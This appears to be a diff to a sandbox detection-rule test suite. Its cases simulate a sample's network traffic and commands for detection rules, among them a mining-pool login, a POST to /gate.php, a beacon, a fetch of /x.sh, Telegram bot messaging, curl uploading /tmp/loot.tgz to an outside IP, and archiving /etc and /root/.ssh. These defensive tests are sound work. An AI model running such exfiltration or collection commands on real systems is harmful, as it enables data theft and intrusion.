@@ -8,6 +8,14 @@ export interface RuleCase {
 }
 
 const sh = (s: Sim, cmd: string) => s.run('/bin/sh', ['sh', '-c', cmd]);
+/** The sample (pid 1) connects to `name` (looked up; null: the hard-coded 203.0.113.7) and sends `first`, which the sandbox catches. */
+const web = (s: Sim, name: string | null, port: number, first: string): void => {
+  const address = name === null ? '203.0.113.7' : s.lookup(name);
+  s.connect(1, address, port, -115);
+  s.caught(address, port, first);
+};
+const http = (method: string, path: string, host: string, body = ''): string =>
+  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: Mozilla/5.0\r\n${body ? `Content-Length: ${body.length}\r\n` : ''}\r\n${body}`;
 
 export const CASES: RuleCase[] = [
   // execution
@@ -140,6 +148,15 @@ export const CASES: RuleCase[] = [
   { id: 'ST-LAT-001', trigger: (s) => s.run('/usr/bin/scp', ['scp', 'data.tgz', 'root@198.51.100.3:/tmp/']), benign: (s) => s.run('/usr/bin/scp', ['scp', 'a', 'b']) },
   { id: 'ST-LAT-002', trigger: (s) => s.sys(1, 'socket', [17, 3, 768], -1), benign: (s) => s.sys(1, 'socket', [2, 1, 0], 3) },
   { id: 'ST-ESC-005', trigger: (s) => s.connectUnix(1, '/var/run/docker.sock', -2), benign: (s) => s.connectUnix(1, '/run/dbus/system_bus_socket', -2) },
+  // what the sample sent over a connection the sandbox caught (rules of source session)
+  { id: 'ST-C2-012', trigger: (s) => web(s, 'pool.example.test', 3333, '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4AbCwallet","pass":"x","agent":"XMRig/6.21.0"}}\n'),
+    benign: (s) => web(s, 'node.example.test', 8545, '{"id":1,"jsonrpc":"2.0","method":"eth_blockNumber","params":[]}\n') },
+  { id: 'ST-EXF-002', trigger: (s) => web(s, 'cdn.example.test', 80, http('POST', '/gate.php', 'cdn.example.test', 'secret=1')),
+    benign: (s) => web(s, 'cdn.example.test', 80, http('GET', '/index.html', 'cdn.example.test')) },
+  { id: 'ST-C2-013', trigger: (s) => web(s, 'cdn.example.test', 443, '\x00\x07BEACON devbox'), benign: (s) => web(s, 'cdn.example.test', 80, http('GET', '/', 'cdn.example.test')) },
+  { id: 'ST-C2-014', trigger: (s) => web(s, null, 80, http('GET', '/x.sh', '203.0.113.7')), benign: (s) => web(s, 'www.example.test', 80, http('GET', '/x.sh', 'www.example.test')) },
+  { id: 'ST-C2-015', trigger: (s) => web(s, 'api.telegram.org', 80, http('POST', '/bot123:AAE/sendMessage', 'api.telegram.org', 'chat_id=1&text=devbox')),
+    benign: (s) => web(s, 'telegram.org.example.test', 80, http('GET', '/api/status', 'telegram.org.example.test')) },
   { id: 'ST-EXF-001', trigger: (s) => s.run('/usr/bin/curl', ['curl', '-T', '/tmp/loot.tgz', 'http://203.0.113.9/up']), benign: (s) => s.run('/usr/bin/curl', ['curl', '-o', 'x', 'http://203.0.113.9/x']) },
   // collection and impact
   { id: 'ST-COL-001', trigger: (s) => s.run('/usr/bin/tar', ['tar', 'czf', '/tmp/l.tgz', '/etc', '/root/.ssh']), benign: (s) => s.run('/usr/bin/tar', ['tar', 'czf', 'out.tgz', 'data']) },
